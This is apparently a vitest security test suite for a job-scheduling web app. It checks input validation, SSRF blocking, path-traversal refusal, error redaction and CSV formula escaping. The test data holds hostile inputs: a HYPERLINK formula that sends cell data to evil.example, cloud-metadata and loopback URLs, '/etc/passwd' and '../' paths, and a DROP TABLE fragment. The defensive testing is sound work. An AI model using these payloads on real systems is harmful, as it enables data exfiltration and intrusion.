// Attacks on input and output, on a real PostgreSQL: text the database cannot store and far-out dates
// are refused naming the field with nothing written; an unexpected failure answers a generic message
// with a request id and no SQL; exported CSV cells cannot run as spreadsheet formulas; carbon feed
// URLs cannot reach loopback, link-local or private addresses unless the admin setting allows them;
// scenario file names cannot be inherited object properties, step out of their folder or be absolute.
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { gzipSync } from "node:zlib";
import { parse } from "csv-parse/sync";
import { fetchRequestHandler } from "@trpc/server/adapters/fetch";
import { TRPCError } from "@trpc/server";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { appRouter } from "../../server/api/root";
import { createRng } from "../../server/engine";
import { pollElectricityMapsLatest } from "../../server/carbon-feeds/electricitymaps-feed";
import type { FetchDeps } from "../../server/carbon-feeds/http-fetch";
import { findSessionUser } from "../../server/repositories/user-repository";
import { setLogDestination } from "../../server/logging/logger";
import { exportJobsCsv } from "../../server/services/job-export";
import { callerAs, demoUserIds, memorySession } from "./helpers/callers";
import { SEED_NOW } from "./helpers/constants";
import { fieldErrorsOf } from "./helpers/field-errors";
import { createSeededDatabase, type TestDatabase } from "./helpers/test-database";

const hours = (h: number) => new Date(SEED_NOW.getTime() + h * 3600_000);
const job = (overrides: Record<string, unknown> = {}) => ({
  idempotencyKey: `key-${Math.round(Math.random() * 1e9)}`,
  name: "resnet-train",
  kind: "TRAINING" as const,
  cpuMilli: 8000,
  memoryMib: 32768,
  gpuCount: 1,
  gpuMilli: 1000,
  allowedGpuModels: [],
  gangSize: 1,
  estimatedDurationS: 7200,
  priority: 5,
  earliestStartAt: hours(1),
  deadlineAt: hours(12),
  allowedRegions: [],
  ...overrides,
});
const feed = (baseUrl: string) => ({
  id: null,
  zoneId: "GB",
  provider: "ELECTRICITY_MAPS" as const,
  baseUrl,
  apiToken: "",
  externalZone: "",
  pollIntervalS: 300,
  enabled: true,
});

describe("hostile input and leaky output", () => {
  let test: TestDatabase;
  type Caller = Awaited<ReturnType<typeof callerAs>>;
  let admin: Caller;
  let operator: Caller;
  let aurora: Caller;
  beforeAll(async () => {
    test = await createSeededDatabase();
    [admin, operator, aurora] = await Promise.all([
      callerAs(test.db, demoUserIds.admin),
      callerAs(test.db, demoUserIds.operator),
      callerAs(test.db, demoUserIds.aurora),
    ]);
  });
  afterAll(() => test.drop());

  it("refuses NUL in a job's name and idempotency key naming the field, and writes nothing", async () => {
    const jobsBefore = await test.db.job.count();
    const byName = await fieldErrorsOf(() => aurora.jobs.submit(job({ name: "train\u0000; DROP TABLE" })));
    expect(byName.name).toBe("Name contains a character that cannot be stored (a NUL or an unpaired surrogate).");
    // The key has no pattern of its own: before the shared rule, its NUL reached PostgreSQL (a 500).
    const byKey = await fieldErrorsOf(() => aurora.jobs.submit(job({ idempotencyKey: "key-\u0000-12345" })));
    expect(byKey.idempotencyKey).toMatch(/^Idempotency key contains a character that cannot be stored/);
    expect(await test.db.job.count()).toBe(jobsBefore);
  });

  it("refuses a lone surrogate in a tenant name and writes nothing", async () => {
    const tenantsBefore = await test.db.tenant.count();
    const errors = await fieldErrorsOf(() =>
      admin.tenants.create({ slug: "surrogate-co", name: "Broken \uD800 name", maxGpus: 4, maxGpuHoursPerMonth: null, carbonBudgetKgPerMonth: null }),
    );
    expect(errors.name).toMatch(/^Name contains a character that cannot be stored/);
    // A well-formed pair (an emoji) is fine: only unpaired halves are refused.
    await expect(
      admin.tenants.create({ slug: "emoji-co", name: "Emoji 🌱 Co", maxGpus: 4, maxGpuHoursPerMonth: null, carbonBudgetKgPerMonth: null }),
    ).resolves.toMatchObject({ name: "Emoji 🌱 Co" });
    expect(await test.db.tenant.count()).toBe(tenantsBefore + 1);
  });

  it("refuses NUL inside a gzip upload once unpacked", async () => {
    const packed = gzipSync("Datetime (UTC),Zone Id,Carbon Intensity gCO₂eq/kWh (LCA),Data Source\n2023-01-01 00:00:00,GB,100,evil\u0000source\n").toString(
      "base64",
    );
    const errors = await fieldErrorsOf(() => admin.carbonAdmin.importCsv({ zoneId: "GB", fileName: "gb.csv.gz", encoding: "gzip-base64", content: packed }));
    expect(errors.content).toBe("gb.csv.gz (unpacked) contains a character that cannot be stored (a NUL or an unpaired surrogate).");
  });

  it("refuses a date in the year 30000 naming the field", async () => {
    const jobsBefore = await test.db.job.count();
    const far = new Date("+030000-01-01T00:00:00Z");
    const errors = await fieldErrorsOf(() => aurora.jobs.submit(job({ earliestStartAt: hours(1), deadlineAt: far })));
    expect(errors.deadlineAt).toBe("Deadline must be on or before 2100-12-31.");
    const early = await fieldErrorsOf(() => aurora.jobs.submit(job({ earliestStartAt: new Date(0), deadlineAt: null })));
    expect(early.earliestStartAt).toBe("Earliest start must be on or after 2000-01-01.");
    expect(await test.db.job.count()).toBe(jobsBefore);
  });

  it("answers an unexpected failure with a generic message and a request id, logging the details under that id", async () => {
    const user = await findSessionUser(test.db, demoUserIds.admin);
    // A column the code expects is gone: the query fails inside Prisma with a message naming the SQL.
    await test.db.$executeRawUnsafe(`ALTER TABLE "Tenant" RENAME COLUMN "name" TO "name_gone"`);
    const logged: string[] = [];
    setLogDestination({ write: (line: string) => void logged.push(line) });
    try {
      const response = await fetchRequestHandler({
        endpoint: "/api/trpc",
        req: new Request("http://localhost/api/trpc/tenants.list"),
        router: appRouter,
        createContext: () => ({ db: test.db, user, session: memorySession(), now: () => SEED_NOW }),
      });
      expect(response.status).toBe(500);
      const text = await response.text();
      const body = JSON.parse(text) as { error: { json: { message: string; data: { requestId: string; stack?: string } } } };
      const { message, data } = body.error.json;
      expect(message).toMatch(/^Something went wrong on our side \(request [0-9a-f-]{36}\)\.$/);
      expect(message).toContain(data.requestId);
      expect(data.stack ?? null).toBeNull();
      for (const leak of ["name_gone", "select", "prisma", "column", "does not exist", process.cwd()])
        expect(text.toLowerCase()).not.toContain(leak.toLowerCase());
      // The server log has the details under the same id.
      const entry = logged.find((line) => line.includes(data.requestId));
      expect(entry).toBeDefined();
      expect(entry).toMatch(/tenants\.list/);
      expect(entry!.toLowerCase()).toMatch(/column|name/);
    } finally {
      setLogDestination(null);
      await test.db.$executeRawUnsafe(`ALTER TABLE "Tenant" RENAME COLUMN "name_gone" TO "name"`);
    }
  });

  it("keeps known errors' messages (a duplicate slug is a field error, not a 500)", async () => {
    const errors = await fieldErrorsOf(() =>
      admin.tenants.create({ slug: "aurora-labs", name: "Copy", maxGpus: 1, maxGpuHoursPerMonth: null, carbonBudgetKgPerMonth: null }),
    );
    expect(Object.keys(errors)).toEqual(["slug"]);
  });

  it("exports a formula-looking text cell with a leading apostrophe, leaving numbers alone", async () => {
    await test.db.job.update({ where: { id: "job-seed-000" }, data: { name: '=HYPERLINK("http://evil.example/?x="&A1,"open")', energyKwh: -1.5 } });
    await test.db.job.update({ where: { id: "job-seed-001" }, data: { name: "@SUM(1+1)" } });
    const user = (await findSessionUser(test.db, demoUserIds.operator))!;
    const rows = parse(await exportJobsCsv(test.db, user, { sort: { field: "submittedAt", direction: "desc" } }), { columns: true }) as Record<
      string,
      string
    >[];
    const hyperlink = rows.find((r) => r.id === "job-seed-000")!;
    expect(hyperlink.name).toBe(`'=HYPERLINK("http://evil.example/?x="&A1,"open")`);
    expect(hyperlink.energy_kwh).toBe("-1.5");
    expect(rows.find((r) => r.id === "job-seed-001")!.name).toBe("'@SUM(1+1)");
    expect(rows.find((r) => r.id === "job-seed-002")!.name).not.toMatch(/^'/);
  });

  it("refuses feed URLs reaching metadata, loopback or a name resolving to loopback unless private URLs are allowed", async () => {
    const feedsBefore = await test.db.carbonFeed.count();
    for (const url of [
      "http://169.254.169.254/latest/meta-data/",
      "http://127.0.0.1:1/",
      "http://localhost:1/",
      "http://[::1]:1/",
      "http://10.0.0.5/",
      "http://0.0.0.0/",
    ]) {
      const errors = await fieldErrorsOf(() => admin.carbonAdmin.saveFeed(feed(url)));
      expect(Object.keys(errors), url).toEqual(["baseUrl"]);
      expect(errors.baseUrl, url).toMatch(/may not point inside the network: .*(loopback|link-local|private|unspecified)/);
    }
    expect(await test.db.carbonFeed.count()).toBe(feedsBefore);
    // The admin setting opens it (audited), for feeds that really run inside the network.
    await admin.systemSettings.update({ allowPrivateFeedUrls: true, decisionRetentionDays: 30 });
    await expect(admin.carbonAdmin.saveFeed(feed("http://127.0.0.1:1/"))).resolves.toMatchObject({ baseUrl: "http://127.0.0.1:1/" });
    await admin.systemSettings.update({ allowPrivateFeedUrls: false, decisionRetentionDays: 30 });
    expect(await test.db.auditLog.count({ where: { action: "system-settings.update" } })).toBe(2);
  });

  it("refuses at fetch time too: a stored loopback feed never gets a request while private URLs are off", async () => {
    let requests = 0;
    const server = createServer((_req, res) => {
      requests++;
      res.writeHead(200, { "content-type": "application/json" }).end("{}");
    });
    await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
    try {
      const baseUrl = `http://localhost:${(server.address() as AddressInfo).port}`;
      const deps: FetchDeps = { fetch: globalThis.fetch, sleep: async () => {}, rng: createRng(1), now: () => SEED_NOW.getTime() };
      await expect(pollElectricityMapsLatest(test.db, { baseUrl, authToken: "t", retry: { maxAttempts: 1 } }, "GB", deps)).rejects.toMatchObject({
        code: "FORBIDDEN_ADDRESS",
        message: expect.stringContaining("resolves to"),
      });
      expect(requests).toBe(0);
    } finally {
      server.closeAllConnections();
      await new Promise<void>((resolve) => server.close(() => resolve()));
    }
  });

  it("system settings are admin-only", async () => {
    for (const caller of [operator, aurora]) {
      await expect(caller.systemSettings.get()).rejects.toMatchObject({ code: "FORBIDDEN" });
      await expect(caller.systemSettings.update({ allowPrivateFeedUrls: true, decisionRetentionDays: 30 })).rejects.toMatchObject({ code: "FORBIDDEN" });
    }
    expect((await fieldErrorsOf(() => admin.systemSettings.update({ allowPrivateFeedUrls: false, decisionRetentionDays: 0 }))).decisionRetentionDays).toBe(
      "1 to 3,650 days",
    );
    expect(await admin.systemSettings.get()).toEqual({ allowPrivateFeedUrls: false, decisionRetentionDays: 30, demoArrivalsPerHour: 0 });
  });

  it("refuses scenario file names that are inherited properties, step out or are absolute", async () => {
    const scenario = (path: string) => ({
      kind: "upload" as const,
      fileName: "s.json",
      json: JSON.stringify({ name: "x" }),
      files: [{ path, content: "a,b\n1,2\n" }],
    });
    for (const path of ["__proto__", "constructor", "../x.csv", "a/../../x.csv", "/etc/passwd", "C:\\x.csv"]) {
      const errors = await fieldErrorsOf(() => operator.experiments.inspect(scenario(path)));
      expect(Object.keys(errors), path).toContain("files.0.path");
    }
    const named = await fieldErrorsOf(() => operator.experiments.inspect({ kind: "upload", fileName: "__proto__", json: "{}", files: [] }));
    expect(named.fileName).toMatch(/must not be named "__proto__"/);
  });

  it("a scenario naming an inherited property as its file gets a field error without server paths", async () => {
    const doc = {
      name: "proto",
      seed: 1,
      start: "2023-01-01T00:00:00Z",
      durationDays: 1,
      clusters: [{ name: "c", region: "eu", zone: "GB", pue: 1.2, nodes: "constructor" }],
      workload: { pods: "pods.csv", tenants: [{ name: "a", weight: 1, maxGpus: 1 }] },
      carbon: { zones: { GB: "../data/carbon/GB_2023_hourly.csv.gz" } },
      policies: [{ name: "p", policy: { objectiveWeights: { carbon: 1, fragmentation: 0, waiting: 0, locality: 0 } } }],
      baseline: "p",
    };
    let caught: unknown;
    try {
      await operator.experiments.inspect({ kind: "upload", fileName: "proto.json", json: JSON.stringify(doc), files: [{ path: "pods.csv", content: "x" }] });
    } catch (error) {
      caught = error;
    }
    expect(caught).toBeInstanceOf(TRPCError);
    expect((caught as TRPCError).code).toBe("BAD_REQUEST");
    expect((caught as TRPCError).message).toMatch(/clusters\[0\]\.nodes/);
    expect((caught as TRPCError).message).not.toContain(process.cwd());
    // JSON escapes that jsonb cannot store are refused by their path inside the document.
    const nul = await fieldErrorsOf(() =>
      operator.experiments.start({
        name: "nul",
        scenario: { kind: "upload", fileName: "n.json", json: '{"name":"a\\u0000b"}', files: [] },
        policies: ["p"],
        baseline: "p",
      }),
    );
    expect(nul["scenario.json"]).toMatch(/at name contains a character that cannot be stored/);
    expect(await test.db.experiment.count({ where: { name: "nul" } })).toBe(0);
  });
});
